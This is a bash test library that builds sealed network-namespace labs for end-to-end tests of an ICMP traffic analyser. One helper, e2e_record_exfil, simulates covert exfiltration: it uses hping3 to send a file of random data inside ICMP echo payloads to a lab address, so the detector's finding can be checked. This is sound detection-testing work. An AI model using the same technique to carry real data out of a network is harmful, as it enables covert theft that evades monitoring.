# lib.sh — helpers for end-to-end tests that run real tools in a closed lab of network namespaces.
# Source it from a test script (bash, set -euo pipefail), then:
#
#   e2e_require tcpdump fping      skip (exit 77) unless root, `ip netns` works and the tools exist
#   e2e_init                       unique prefix ih$$_, cleanup trap on EXIT/INT/TERM
#   e2e_ns atk                     create namespace "$(e2e_name atk)", loopback up
#   e2e_link atk eth0 10.77.0.10/24  tgt eth0 10.77.0.1/24     veth between two lab namespaces
#   e2e_addr tgt eth0 10.78.0.40/24  e2e_route atk 10.78.0.0/24 10.77.0.1
#   e2e_x 10 atk ping -c1 10.78.0.40      run a command in a namespace, bounded (seconds first)
#   e2e_bg 30 tgt socat ...               same in the background; its pid in E2E_LAST_PID
#   e2e_capture_start atk eth0 FILE 60    tcpdump -w FILE, bounded, ready when it returns
#   e2e_capture_stop                      SIGTERM to that tcpdump (by pid), wait for it
#   e2e_targets_assigned 10.78.0.32/27    fail unless every host address of the range is the lab's
#   e2e_seal                              fail if any lab namespace has a default route
#
# The rules every test follows (modelled on record/lab.sh, the recorder of the corpus):
# - only namespaces this test creates, named with the unique prefix, and removed by the trap;
# - veth pairs only between those namespaces, created from inside them: nothing is ever linked
#   to the host's namespace, and no namespace gets a default route (e2e_route refuses one), so a
#   packet for an address outside the lab fails with "Network is unreachable" before it is sent;
# - addresses only from the lab's ranges: 10.77.0.0/24, 10.78.0.0/24 (fd77::/64, fd78::/64) and,
#   for "outside" hosts, the documentation ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24;
#   every address a test targets is assigned in one of its namespaces (e2e_targets_assigned);
# - every command is bounded with timeout(1); background processes are remembered by pid and
#   killed by pid, never by name.

E2E_NS=()        # namespaces created, full names
E2E_PIDS=()      # background pids started through e2e_bg / e2e_capture_start
E2E_TMP=""       # scratch directory, removed by the cleanup
E2E_CAP_PID=""
E2E_LAST_PID=""

e2e_log() { printf 'e2e: %s\n' "$*" >&2; }
e2e_fail() { printf 'e2e: FAIL: %s\n' "$*" >&2; exit 1; }
e2e_skip() { printf 'e2e: SKIP: %s\n' "$*" >&2; exit 77; }

# e2e_require TOOL...: skip unless the lab can be built here and the tools exist.
e2e_require() {
  ((EUID == 0)) || e2e_skip "needs root for network namespaces"
  command -v ip >/dev/null 2>&1 || e2e_skip "no ip(8) (iproute2)"
  command -v timeout >/dev/null 2>&1 || e2e_skip "no timeout(1)"
  local probe="ihprobe$$"
  if ! timeout 10 ip netns add "$probe" 2>/dev/null; then
    e2e_skip "ip netns is not available here"
  fi
  timeout 10 ip netns del "$probe" 2>/dev/null || true
  local t
  for t in "$@"; do
    command -v "$t" >/dev/null 2>&1 || e2e_skip "$t is not installed (scripts/deps.sh installs it)"
  done
}

# e2e_name SHORT: the full, unique namespace name.
e2e_name() { printf 'ih%s_%s' "$$" "$1"; }

e2e_cleanup() {
  local status=$? pid ns p
  trap - EXIT INT TERM
  for pid in "${E2E_PIDS[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
  # Anything else still running inside our namespaces (children of what we started).
  for ns in "${E2E_NS[@]}"; do
    for p in $(timeout 5 ip netns pids "$ns" 2>/dev/null); do kill -TERM "$p" 2>/dev/null || true; done
  done
  sleep 0.2
  for pid in "${E2E_PIDS[@]}"; do kill -KILL "$pid" 2>/dev/null || true; wait "$pid" 2>/dev/null || true; done
  for ns in "${E2E_NS[@]}"; do
    for p in $(timeout 5 ip netns pids "$ns" 2>/dev/null); do kill -KILL "$p" 2>/dev/null || true; done
    timeout 10 ip netns del "$ns" 2>/dev/null || e2e_log "could not delete namespace $ns"
  done
  [[ -n $E2E_TMP && -d $E2E_TMP ]] && rm -rf "$E2E_TMP"
  exit "$status"
}

# e2e_init: scratch directory and the cleanup trap. Call once, before creating anything.
e2e_init() {
  E2E_TMP=$(mktemp -d "${TMPDIR:-/tmp}/icmphound-e2e.XXXXXX")
  chmod 755 "$E2E_TMP"   # tcpdump may write as an unprivileged user
  trap e2e_cleanup EXIT
  trap 'exit 130' INT
  trap 'exit 143' TERM
}

# e2e_lab_addr ADDR: true when ADDR (no prefix length) is in one of the lab's ranges.
e2e_lab_addr() {
  case $1 in
    10.77.0.*|10.78.0.*|192.0.2.*|198.51.100.*|203.0.113.*) return 0 ;;
    fd77::*|fd78::*) return 0 ;;
  esac
  return 1
}

e2e_ns() {
  local ns
  ns=$(e2e_name "$1")
  timeout 10 ip netns add "$ns" || e2e_fail "cannot create namespace $ns"
  E2E_NS+=("$ns")
  timeout 10 ip -n "$ns" link set lo up
}

# e2e_addr NS IF CIDR: assign a lab address (refuses any other).
e2e_addr() {
  local ns
  ns=$(e2e_name "$1")
  e2e_lab_addr "${3%/*}" || e2e_fail "address $3 is not in the lab's ranges"
  case $3 in
    *:*) timeout 10 ip -n "$ns" addr add "$3" dev "$2" nodad ;;
    *) timeout 10 ip -n "$ns" addr add "$3" dev "$2" ;;
  esac
}

# e2e_link NS1 IF1 CIDR1 NS2 IF2 CIDR2: a veth pair between two lab namespaces, addressed and up.
# It is created from inside NS1, so the host's namespace never holds either end. A CIDR may be
# '-' for an end without an address (for instance a bridge port).
e2e_link() {
  local a b
  a=$(e2e_name "$1") b=$(e2e_name "$4")
  timeout 10 ip -n "$a" link add "$2" type veth peer name "$5" netns "$b" ||
    e2e_fail "cannot link $a:$2 to $b:$5"
  [[ $3 == - ]] || e2e_addr "$1" "$2" "$3"
  [[ $6 == - ]] || e2e_addr "$4" "$5" "$6"
  timeout 10 ip -n "$a" link set "$2" up
  timeout 10 ip -n "$b" link set "$5" up
}

# e2e_route NS DEST VIA: a route to one of the lab's ranges; a default route is refused.
e2e_route() {
  local ns
  ns=$(e2e_name "$1")
  case $2 in
    default|0.0.0.0/0|::/0) e2e_fail "a default route would leave the lab" ;;
  esac
  e2e_lab_addr "${2%/*}" || e2e_fail "route to $2 is not a lab range"
  case $2 in
    *:*) timeout 10 ip -n "$ns" -6 route add "$2" via "$3" ;;
    *) timeout 10 ip -n "$ns" route add "$2" via "$3" ;;
  esac
}

# e2e_seal: check that no lab namespace has a default route (call after building the lab).
e2e_seal() {
  local ns
  for ns in "${E2E_NS[@]}"; do
    [[ -z $(timeout 5 ip -n "$ns" route show default) ]] || e2e_fail "$ns has an IPv4 default route"
    [[ -z $(timeout 5 ip -n "$ns" -6 route show default) ]] || e2e_fail "$ns has an IPv6 default route"
  done
}

# e2e_x SECONDS NS CMD...: run CMD in namespace NS, killed after SECONDS.
e2e_x() {
  local secs=$1 ns
  ns=$(e2e_name "$2")
  shift 2
  timeout --kill-after=5 "$secs" ip netns exec "$ns" "$@"
}

# e2e_bg SECONDS NS CMD...: e2e_x in the background; pid in E2E_LAST_PID (killed by the cleanup).
# The command is started directly (not through a function) so that $! is timeout's own pid.
e2e_bg() {
  local secs=$1 ns
  ns=$(e2e_name "$2")
  shift 2
  timeout --kill-after=5 "$secs" ip netns exec "$ns" "$@" &
  E2E_LAST_PID=$!
  E2E_PIDS+=("$E2E_LAST_PID")
}

# e2e_pid_below PID NAME: the process named NAME at or below PID (timeout(1), ip netns exec, time(1)
# stand between a background command's pid and the program), found through /proc's children
# lists, never by name across the system; empty when it is gone.
e2e_pid_below() {
  local p=$1 name=$2 depth c
  for ((depth = 0; depth < 6; depth++)); do
    [[ -r /proc/$p/comm ]] || return 0
    if [[ $(cat "/proc/$p/comm" 2>/dev/null) == "$name" ]]; then echo "$p"; return 0; fi
    c=$(cat /proc/"$p"/task/*/children 2>/dev/null | tr ' ' '\n' | grep -m1 . || true)
    [[ -n $c ]] || return 0
    p=$c
  done
}

# e2e_record_exfil CAPNS DST CAP: hping3 -E from the namespace atk sends a file of 60 distinct
# 600-byte base64 chunks (36 KB: well past exfil_min_bytes, 16 KiB, even when the distinct-payload
# estimate loses a few to collisions or the first packets go by unseen) in echo requests to DST,
# while tcpdump records on CAPNS's eth0 into CAP.
e2e_record_exfil() {
  local capns=$1 dst=$2 cap=$3
  head -c 30000 /dev/urandom | base64 >"$E2E_TMP/secret.txt"
  e2e_capture_start "$capns" eth0 "$cap" 60
  e2e_x 40 atk hping3 -1 -q -E "$E2E_TMP/secret.txt" -d 600 -c 60 -i u50000 "$dst" >/dev/null 2>&1 || true
  e2e_capture_stop
}

# e2e_wait_listening LOG PID WHAT: wait (at most 10 s) until LOG says 'listening on'; fail if PID
# ends first or it never does. For tcpdump and icmphound watch, which both say so on stderr.
e2e_wait_listening() {
  local log=$1 pid=$2 what=$3 i
  for ((i = 0; i < 100; i++)); do
    grep -q 'listening on' "$log" 2>/dev/null && return 0
    kill -0 "$pid" 2>/dev/null || { cat "$log" >&2; e2e_fail "$what did not start"; }
    sleep 0.1
  done
  cat "$log" >&2
  e2e_fail "$what did not start listening within 10 s"
}

# e2e_capture_start NS IF FILE SECONDS: tcpdump on IF in NS writing FILE, at most SECONDS;
# returns once tcpdump listens. Its pid is E2E_CAP_PID.
e2e_capture_start() {
  local ns=$1 ifc=$2 file=$3 secs=$4 log
  log=$E2E_TMP/tcpdump.$ns.log
  e2e_bg "$secs" "$ns" tcpdump -n -U -s 0 -i "$ifc" -w "$file" 2>"$log"
  E2E_CAP_PID=$E2E_LAST_PID
  e2e_wait_listening "$log" "$E2E_CAP_PID" tcpdump
}

# e2e_capture_stop: SIGTERM to the capture (timeout forwards it to tcpdump), then wait for it.
e2e_capture_stop() {
  [[ -n $E2E_CAP_PID ]] || return 0
  sleep 0.5   # let the last replies arrive
  kill -TERM "$E2E_CAP_PID" 2>/dev/null || true
  wait "$E2E_CAP_PID" 2>/dev/null || true
  E2E_CAP_PID=""
}

# e2e_targets_assigned CIDR|ADDR...: fail unless every host address is assigned in a lab namespace.
e2e_targets_assigned() {
  local ns assigned="" missing
  for ns in "${E2E_NS[@]}"; do
    assigned+=$(timeout 5 ip -n "$ns" -o addr show | awk '{split($4, a, "/"); print a[1]}')$'\n'
  done
  missing=$(python3 - "$assigned" "$@" <<'EOF'
import ipaddress, sys
have = {ipaddress.ip_address(a) for a in sys.argv[1].split()}
for spec in sys.argv[2:]:
    net = ipaddress.ip_network(spec, strict=False)
    hosts = [net.network_address] if net.num_addresses == 1 else net.hosts()
    for h in hosts:
        if h not in have:
            print(h)
EOF
  )
  [[ -z $missing ]] || e2e_fail "targets not assigned in the lab: ${missing//$'\n'/ }"
}

# e2e_analyze BIN CAPTURE OUT: icmphound analyze --format jsonl, bounded; fails on a bad status.
e2e_analyze() {
  local status=0
  TZ=GMT0 timeout 120 "$1" analyze --format jsonl "$2" >"$3" 2>"$3.err" || status=$?
  if ((status != 0)); then
    cat "$3.err" >&2
    e2e_fail "icmphound analyze exited $status"
  fi
}

# e2e_has_finding FILE KIND SRC: true when FILE (JSON lines) holds a finding of KIND from SRC at
# severity low or above.
e2e_has_finding() {
  python3 - "$@" <<'EOF'
import json, sys
path, kind, src = sys.argv[1:4]
sev = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
for line in open(path, encoding="utf-8"):
    try:
        o = json.loads(line)
    except ValueError:
        continue
    if not isinstance(o, dict) or o.get("type") != "finding" or o.get("kind") != kind:
        continue
    s = o.get("src")
    if isinstance(s, dict):
        s = s.get("addr") or s.get("ip")
    if str(s) == src and sev.get(o.get("severity"), 0) >= 1:
        sys.exit(0)
sys.exit(1)
EOF
}
